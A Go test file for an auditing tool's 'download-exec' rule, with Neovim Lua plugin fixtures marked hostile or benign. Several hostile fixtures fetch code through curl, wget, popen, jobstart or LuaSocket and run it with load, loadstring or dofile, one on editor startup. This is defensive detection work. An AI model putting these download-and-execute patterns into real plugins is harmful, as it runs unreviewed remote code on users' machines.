package audit_test

import (
	"testing"

	"github.com/skilldex/skilldex/internal/audit"
)

// TestLuaFetchRun: Lua that fetches text (curl or wget through
// vim.system, vim.fn.system, jobstart or io.popen; LuaSocket's
// http.request) and runs it with load, loadstring or dofile is
// download-and-execute (critical), through a callback's parameter, an
// assignment on the fetch's line or a variable passed on; fetched JSON
// decoded, a shipped file loaded and a git command's output are not.
func TestLuaFetchRun(t *testing.T) {
	crit, none := audit.Critical, audit.SeverityNone
	lua := func(body string) map[string]string {
		return map[string]string{"lua/plug.lua": "local M = {}\n" + body + "\nreturn M\n"}
	}
	callback := func(fetch, run string) map[string]string {
		return lua("local function refresh()\n  local url = table.concat({ \"https:/\", \"defs.example\", \"v1.lua\" }, \"/\")\n" +
			"  vim.system(" + fetch + ", { text = true }, function(res)\n    if res.code == 0 then\n      vim.schedule(function()\n        " + run + "\n      end)\n    end\n  end)\nend\n" +
			"vim.api.nvim_create_autocmd(\"VimEnter\", { once = true, callback = refresh })")
	}
	checkRule(t, "download-exec", map[string]systemCase{
		"hostile/vim-system-load":       {callback(`{ "curl", "-fsS", url }`, "local chunk = (loadstring or load)(res.stdout)\n        if chunk then pcall(chunk) end"), crit},
		"hostile/vim-system-loadstring": {callback(`{ "wget", "-qO-", url }`, "assert(loadstring(res.stdout))()"), crit},
		"hostile/vim-system-passed-on":  {callback(`{ "curl", "-s", url }`, "local src = res.stdout\n        local f = load(src)\n        f()"), crit},
		"hostile/fn-system-assign":      {lua("local code = vim.fn.system({ \"curl\", \"-s\", M.url })\nload(code)()"), crit},
		"hostile/popen-read":            {lua("local h = io.popen(\"curl -s \" .. M.url)\nlocal s = h:read(\"*a\")\nh:close()\nload(s)()"), crit},
		"hostile/luasocket":             {lua("local http = require(\"socket.http\")\nlocal body, code = http.request(M.url)\nif code == 200 then loadstring(body)() end"), crit},
		"hostile/jobstart-stdout":       {lua("vim.fn.jobstart({ \"curl\", \"-s\", M.url }, { stdout_buffered = true, on_stdout = function(_, data)\n  load(table.concat(data, \"\\n\"))()\nend })"), crit},
		"benign/fetch-json":             {callback(`{ "curl", "-fsS", url }`, "local defs = vim.json.decode(res.stdout)\n        M.defs = defs"), none},
		"benign/load-shipped":           {callback(`{ "curl", "-fsS", url }`, "M.defs = vim.json.decode(res.stdout)\n        local f = loadfile(vim.fn.stdpath(\"config\") .. \"/defs.lua\")\n        local g = load(table.concat(vim.fn.readfile(M.path), \"\\n\"))"), none},
		"benign/git-output":             {callback(`{ "git", "log", "-1" }`, "local chunk = load(res.stdout)"), none},
		"benign/no-fetch":               {lua("local src = table.concat(vim.fn.readfile(M.path), \"\\n\")\nlocal f = load(src)\nf()"), none},
	})
}

// TestLuaFetchSavedFile: a file curl or wget saves (-o path) then run
// with dofile or loadfile is download-and-execute; a shipped file run
// beside an unrelated download is not.
func TestLuaFetchSavedFile(t *testing.T) {
	crit, none := audit.Critical, audit.SeverityNone
	lua := func(body string) map[string]string {
		return map[string]string{"plugin/up.lua": "local M = {}\n" + body + "\nreturn M\n"}
	}
	checkRule(t, "download-exec", map[string]systemCase{
		"hostile/curl-o-dofile":     {lua("local path = vim.fn.stdpath(\"cache\") .. \"/defs.lua\"\nvim.fn.system({ \"curl\", \"-fsSo\", path, M.url })\ndofile(path)"), crit},
		"hostile/wget-O-loadfile":   {lua("local f = os.tmpname()\nos.execute(\"true\")\nio.popen(\"wget -q -O \" .. f .. \" \" .. M.url):close()\nlocal chunk = loadfile(f)\nchunk()"), crit},
		"benign/shipped-dofile":     {lua("local path = vim.fn.stdpath(\"cache\") .. \"/defs.json\"\nvim.fn.system({ \"curl\", \"-fsSo\", path, M.url })\ndofile(vim.fn.stdpath(\"config\") .. \"/lua/defaults.lua\")"), none},
		"benign/load-saved-as-text": {lua("local path = vim.fn.stdpath(\"cache\") .. \"/defs.json\"\nvim.fn.system({ \"curl\", \"-fsSo\", path, M.url })\nlocal f = load(\"return 1\")"), none},
	})
}
